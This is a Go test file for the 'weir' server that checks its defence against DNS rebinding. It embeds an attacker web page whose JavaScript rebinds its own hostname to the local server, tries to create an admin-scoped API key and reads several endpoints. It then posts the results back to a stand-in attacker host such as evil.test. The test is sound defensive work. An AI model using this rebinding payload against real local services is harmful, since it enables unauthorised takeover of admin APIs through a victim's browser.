package serve

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/weirhq/weir/internal/cli/clitest"
	"github.com/weirhq/weir/internal/testkit/testenv"
	"github.com/weirhq/weir/internal/testkit/testenv/faultproxy"
)

// rebindingPage asks to have its own name lead to the server, and then makes itself a key.
const rebindingPage = `<!doctype html><script>
const base = %q, server = %q
const body = JSON.stringify({name: 'page', scopes: ['admin']})
async function ask(url, options) {
  for (let i = 0; ; i++) {
    try {
      const answer = await fetch(url, options)
      return answer.type === 'opaque' ? 'opaque' : String(answer.status)
    } catch (e) {
      if (i === 20) return String(e)
    }
  }
}
async function run() {
  const found = {}
  found.cross = await ask(server + '/v1/keys', {method: 'POST', mode: 'no-cors', body})
  await fetch(base + '/rebind', {mode: 'no-cors'})
  found.create = await ask('/v1/keys', {method: 'POST', headers: {'Content-Type': 'application/json'}, body})
  found.list = await ask('/v1/bulk-actions')
  found.docs = await ask('/docs')
  found.health = await ask('/healthz')
  await fetch(base + '/found', {method: 'POST', mode: 'no-cors', body: JSON.stringify(found)})
}
run()
</script>`

// TestAWebPageCannotTakeOverAServerWithoutKeys opens the page of an attacker in a real browser. Its name leads to the
// attacker first and to the server later, as with DNS rebinding.
func TestAWebPageCannotTakeOverAServerWithoutKeys(t *testing.T) {
	for _, tt := range []struct{ name, allowed, create, others, keys string }{
		{"evil.test", "", "421", "421", ""},
		{"weir.test", "weir.test", "201", "200", "page"}, // the same page works where the operator allows its name
	} {
		t.Run(tt.name, func(t *testing.T) {
			h := open(t, clitest.Settings(t, map[string]string{"allowed_hosts": tt.allowed}), nodeParts(false))
			server := h.url(t)
			defer h.stop(t)
			found := visit(t, tt.name, server)
			want := map[string]string{"cross": "opaque", "create": tt.create, "list": tt.others, "docs": tt.others, "health": "200"}
			for what, status := range want {
				if found[what] != status {
					t.Errorf("%s: the page got %q, want %q", what, found[what], status)
				}
			}
			if got := keyNames(t, server); got != tt.keys {
				t.Errorf("the server has the keys %q, want %q", got, tt.keys)
			}
		})
	}
}

// visit opens the page of the attacker under a name and returns what it found.
func visit(t *testing.T, name, server string) map[string]string {
	t.Helper()
	found := make(chan map[string]string, 1)
	mux := http.NewServeMux()
	attacker := httptest.NewServer(mux)
	t.Cleanup(attacker.Close)
	proxy := faultproxy.New(t, strings.TrimPrefix(attacker.URL, "http://"))
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(attacker.URL, "http://"))
	base := "http://" + net.JoinHostPort(name, port)
	mux.HandleFunc("/rebind", func(http.ResponseWriter, *http.Request) { proxy.Redirect(strings.TrimPrefix(server, "http://")) })
	mux.HandleFunc("/found", func(_ http.ResponseWriter, r *http.Request) {
		var got map[string]string
		if err := json.NewDecoder(r.Body).Decode(&got); err != nil {
			t.Error(err)
		}
		found <- got
	})
	mux.HandleFunc("/{$}", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprintf(w, rebindingPage, base, server) // the test fails without it
	})
	_, port, _ = net.SplitHostPort(proxy.Addr)
	testenv.Browse(t, (&url.URL{Scheme: "http", Host: net.JoinHostPort(name, port), Path: "/"}).String(), map[string]string{name: "127.0.0.1"})
	select {
	case got := <-found:
		return got
	case <-time.After(60 * time.Second):
		t.Fatal("the page told nothing within a minute")
	}
	return nil
}

// keyNames lists the names of the server's keys.
func keyNames(t *testing.T, server string) string {
	t.Helper()
	defer http.DefaultClient.CloseIdleConnections()
	a, err := http.Get(server + "/v1/keys")
	if err != nil {
		t.Fatal(err)
	}
	defer a.Body.Close()
	raw, err := io.ReadAll(a.Body)
	var page struct{ Data []struct{ Name string } }
	if err != nil || json.Unmarshal(raw, &page) != nil {
		t.Fatalf("keys: %v %s", err, raw)
	}
	var names []string
	for _, k := range page.Data {
		names = append(names, k.Name)
	}
	return strings.Join(names, ",")
}
